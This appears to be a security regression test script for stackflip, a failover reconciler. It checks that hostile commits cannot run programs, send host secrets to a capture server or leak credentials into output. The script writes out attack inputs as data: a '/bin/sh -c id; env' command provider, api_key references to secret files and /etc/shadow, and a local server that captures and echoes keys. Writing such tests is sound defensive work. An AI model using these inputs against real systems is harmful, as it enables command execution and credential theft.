#!/usr/bin/env bash
# Issue 10, items 1, 2, 8 and 12, as the security review ran them: an attacker
# with commit rights (and nothing else) tries to run a program on the
# reconciler host, to send a host file or variable to a capture server, and
# to get a secret echoed into stackflip's outputs. No database needed: the
# stacks' servers are closed ports (unreachable is a state).
#   (a) a command provider `[/bin/sh, -c, 'id; env > FILE']` committed to the
#       repo: `reconcile` refuses the commit, FILE never appears
#   (b) the same through control_command
#   (c) api_key ${file:SECRET} / ${env:WEBHOOK_SECRET} with the PowerDNS url
#       pointed at a capture server: refused at load, the server gets nothing
#   (d) the granted key, url moved to the capture server: refused
#   (e) a DSN with passfile=: refused; a URL with user:pass@: refused
#   (f) ${file:/dev/zero}, ${file:FIFO}: a clear error, no hang, no growth
#   (g) a 50 MB config: refused at once
#   (h) a PowerDNS that echoes the key and credential-shaped text in its error
#       bodies: no secret in stdout, stderr, the state store or /observed
#   (i) with the policy, a granted and bound key still works (positive control)
# Usage (CTest): bash tests/security/hostile_commit_sec.sh STACKFLIP E2E_TOOL
source "$(dirname "$0")/../e2e/lib.sh"
SF=${1:?stackflip binary}
command -v git >/dev/null && command -v python3 >/dev/null && command -v sqlite3 >/dev/null ||
  { echo "SKIP: git, python3 or sqlite3 missing"; exit 77; }

DIR=$(mktemp -d "${TMPDIR:-/tmp}/stackflip-sec.XXXXXX")
MY_PIDS=
trap 'kill $MY_PIDS 2>/dev/null; [[ -n ${KEEP_E2E_DIR:-} ]] || rm -rf "$DIR"' EXIT
export STACKFLIP_STATE_DIR=$DIR/state NO_COLOR=1

SECRET_FILE=$DIR/host-secret
echo "file-SECRET-$RANDOM$RANDOM" >"$SECRET_FILE"
export WEBHOOK_SECRET="hook-SECRET-$RANDOM$RANDOM"
export PDNS_KEY="pdns-SECRET-$RANDOM$RANDOM"
export PGPASSWORD="pg-SECRET-$RANDOM$RANDOM"
SECRETS=("$(cat "$SECRET_FILE")" "$WEBHOOK_SECRET" "$PDNS_KEY" "$PGPASSWORD")
DEAD_PORT=$(free_port)  # nothing listens: the databases are unreachable

# A capture server: records every request line and header it receives, and
# answers like a PowerDNS that echoes what it got (the review's attack). Its
# error bodies also carry credential-shaped text.
CPORT=$(free_port)
python3 - "$CPORT" "$DIR/captured" <<'PY' >/dev/null 2>&1 &
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(sys.argv[2], "a") as f:
            f.write(self.requestline + "\n" + str(self.headers) + "\n")
        key = self.headers.get("X-API-Key", "")
        body = ('{"error": "bad key %s; password: hunter2x; \\"token\\":\\"hunter2x\\"; '
                'Authorization: Bearer\\thunter2x; postgres://u:hunter2x@db/x"}' % key).encode()
        self.send_response(500); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a): pass
http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
PY
MY_PIDS="$MY_PIDS $!"
poll 10 python3 -c "import socket; socket.create_connection(('127.0.0.1', $CPORT), 1)"

# The operator's policy: the PowerDNS key bound to the real PowerDNS only
# (here a closed port), PGPASSWORD to the two database servers.
REAL_PDNS=http://127.0.0.1:$DEAD_PORT
cat >"$DIR/host.yaml" <<EOF
secrets:
  "\${env:PDNS_KEY}": ["$REAL_PDNS"]
  "\${env:PGPASSWORD}": ["postgres://127.0.0.1:$DEAD_PORT", "postgres://127.0.0.2:$DEAD_PORT"]
EOF
export STACKFLIP_HOST_CONFIG=$DIR/host.yaml

config() { # URL API_KEY [STACK_EXTRA] [PROVIDER_EXTRA]
  cat <<EOF
apiVersion: stackflip/v1
providers:
  db: {type: postgres, connect_timeout_ms: 500}
  dns: {type: powerdns, url: "$1", api_key: "$2", timeout_ms: 1000}
${4:-}
groups:
  shop:
    active: primary
    stacks:
      primary:
        provider: db
        dsn: "host=127.0.0.1 port=$DEAD_PORT user=stackflip dbname=postgres"
        address: 127.0.0.1
${3:-}
      standby:
        provider: db
        dsn: "host=127.0.0.2 port=$DEAD_PORT user=stackflip dbname=postgres"
        address: 127.0.0.2
    traffic: {provider: dns, zone: example.com., record: shop.example.com.}
EOF
}

REPO=$DIR/repo
git init -q -b main "$REPO"
git -C "$REPO" config user.email ops@example.test
git -C "$REPO" config user.name Ops
git -C "$REPO" config commit.gpgsign false
commit() { cp "$1" "$REPO/stackflip.yaml"; git -C "$REPO" add stackflip.yaml; git -C "$REPO" commit -q -m "$2"; }
captured_nothing() { [[ ! -s $DIR/captured ]]; }

echo "--- (a) a command provider that runs a shell"
cat >"$DIR/shell.yaml" <<EOF
apiVersion: stackflip/v1
providers:
  pwn: {type: command, commands: {observe: [/bin/sh, -c, 'id > $DIR/pwned; env >> $DIR/pwned']}}
  dns: {type: powerdns, url: "$REAL_PDNS", api_key: "\${env:PDNS_KEY}"}
groups:
  shop:
    active: primary
    stacks:
      primary: {provider: pwn, address: 127.0.0.1}
      standby: {provider: pwn, address: 127.0.0.2}
    traffic: {provider: dns, zone: example.com., record: shop.example.com.}
EOF
commit "$DIR/shell.yaml" "observe through a command"
"$SF" reconcile --repo "file://$REPO" >"$DIR/a.out" 2>&1
rc=$?
check "(a) reconcile of the hostile commit fails (exit $rc)" test "$rc" -ne 0 -a "$rc" -lt 128
check "(a) the program never ran" test ! -e "$DIR/pwned"
check "(a) the error names the program and the allow-list" grep -q 'program `/bin/sh`.*not allowed on this host' "$DIR/a.out"
check "(a) the error is at file:line:col" grep -Eq 'stackflip.yaml:[0-9]+:[0-9]+: error:' "$DIR/a.out"

echo "--- (b) control_command"
config "$REAL_PDNS" '${env:PDNS_KEY}' "        control_command: [/bin/sh, -c, 'id > $DIR/pwned']" >"$DIR/ctl.yaml"
"$SF" validate "$DIR/ctl.yaml" >"$DIR/b.out" 2>&1
check_eq "(b) validate refuses control_command /bin/sh" 1 $?
"$SF" apply -c "$DIR/ctl.yaml" --auto-approve >>"$DIR/b.out" 2>&1
check_eq "(b) apply refuses it too" 1 $?
check "(b) the program never ran" test ! -e "$DIR/pwned"
check "(b) the error names the policy file" grep -q "host policy $DIR/host.yaml" "$DIR/b.out"

echo "--- (c) host file and variable to a capture server"
for ref in "\${file:$SECRET_FILE}" '${env:WEBHOOK_SECRET}' '${file:/etc/shadow}'; do
  config "http://127.0.0.1:$CPORT" "$ref" >"$DIR/c.yaml"
  "$SF" observe -c "$DIR/c.yaml" >"$DIR/c.out" 2>&1
  check_eq "(c) observe with api_key $ref exits 1" 1 $?
  check "(c) ... says the secret is not granted" grep -q "is not granted on this host" "$DIR/c.out"
done
check "(c) the capture server received nothing" captured_nothing

echo "--- (d) the granted key sent elsewhere"
config "http://127.0.0.1:$CPORT" '${env:PDNS_KEY}' >"$DIR/d.yaml"
"$SF" plan -c "$DIR/d.yaml" >"$DIR/d.out" 2>&1
check_eq "(d) plan exits 1" 1 $?
check "(d) ... says where it may not go" grep -q "may not be sent to http://127.0.0.1:$CPORT" "$DIR/d.out"
check "(d) the capture server received nothing" captured_nothing

echo "--- (e) DSN keywords and URL credentials"
config "$REAL_PDNS" '${env:PDNS_KEY}' >"$DIR/e.yaml"
sed -i "0,\|user=stackflip|s||passfile=$DIR/host-secret user=stackflip|" "$DIR/e.yaml"
"$SF" validate "$DIR/e.yaml" >"$DIR/e.out" 2>&1
check_eq "(e) validate refuses passfile= (no policy needed)" 1 $?
check "(e) ... names the keyword" grep -q "'passfile' is not allowed in a DSN" "$DIR/e.out"
config "http://u:x@127.0.0.1:$CPORT" '${env:PDNS_KEY}' >"$DIR/e2.yaml"
"$SF" validate "$DIR/e2.yaml" >"$DIR/e2.out" 2>&1
check_eq "(e) validate refuses user:password@ in a url" 1 $?

echo "--- (f) \${file:} of a device and a FIFO (host-side flags read them the same way)"
mkfifo "$DIR/fifo"
for ref in '${file:/dev/zero}' "\${file:$DIR/fifo}"; do
  timeout 20 "$SF" run --repo "file://$REPO" --webhook-secret "$ref" --listen 127.0.0.1:0 >"$DIR/f.out" 2>&1
  rc=$?
  check "(f) --webhook-secret $ref: a clear error, no hang (exit $rc)" test "$rc" -eq 1
  check "(f) ... says it is not a regular file" grep -q "not a regular file" "$DIR/f.out"
done

echo "--- (g) a 50 MB config"
{ config "$REAL_PDNS" '${env:PDNS_KEY}'; head -c 50000000 /dev/zero | tr '\0' '#'; } >"$DIR/big.yaml"
start=$(date +%s%N)
"$SF" validate "$DIR/big.yaml" >"$DIR/g.out" 2>&1
rc=$?
ms=$((($(date +%s%N) - start) / 1000000))
check "(g) refused (exit $rc) in $ms ms" test "$rc" -eq 1 -a "$ms" -lt 5000
check "(g) ... says the cap" grep -q "at most 16777216 are read" "$DIR/g.out"

echo "--- (h) secrets echoed back by a server"
cat >"$DIR/host-echo.yaml" <<EOF
secrets:
  "\${env:PDNS_KEY}": ["http://127.0.0.1:$CPORT"]
  "\${env:PGPASSWORD}": ["postgres://127.0.0.1:$DEAD_PORT", "postgres://127.0.0.2:$DEAD_PORT"]
EOF
config "http://127.0.0.1:$CPORT" '${env:PDNS_KEY}' >"$DIR/h.yaml"
for out in text json; do
  STACKFLIP_HOST_CONFIG=$DIR/host-echo.yaml "$SF" -vv observe -c "$DIR/h.yaml" -o "$out" >"$DIR/h-$out.out" 2>&1
done
STACKFLIP_HOST_CONFIG=$DIR/host-echo.yaml "$SF" -vv plan -c "$DIR/h.yaml" -o markdown >"$DIR/h-md.out" 2>&1
check "(h) the capture server did get the key (the echo is real)" grep -q "X-API-Key: $PDNS_KEY" "$DIR/captured"
check "(h) the echoed error reached the output" grep -q "bad key" "$DIR/h-text.out"
leaks=0
for s in "${SECRETS[@]}" hunter2x; do
  for f in "$DIR"/h-*.out "$STACKFLIP_STATE_DIR/state.db"; do
    if grep -aq -- "$s" "$f"; then echo "  LEAK of ${s:0:12}... in $f"; leaks=$((leaks + 1)); fi
  done
done
check_eq "(h) no secret or credential-shaped value in any output or the store" 0 "$leaks"

echo "--- (i) positive control: the bound key is sent"
: >"$DIR/captured"
STACKFLIP_HOST_CONFIG=$DIR/host-echo.yaml "$SF" observe -c "$DIR/h.yaml" >/dev/null 2>&1
check "(i) a granted, bound key reaches its endpoint" grep -q "X-API-Key: $PDNS_KEY" "$DIR/captured"
check "(i) and nothing else of the host's secrets" not grep -Eq -- "${SECRETS[0]}|$WEBHOOK_SECRET|$PGPASSWORD" "$DIR/captured"

e2e_finish
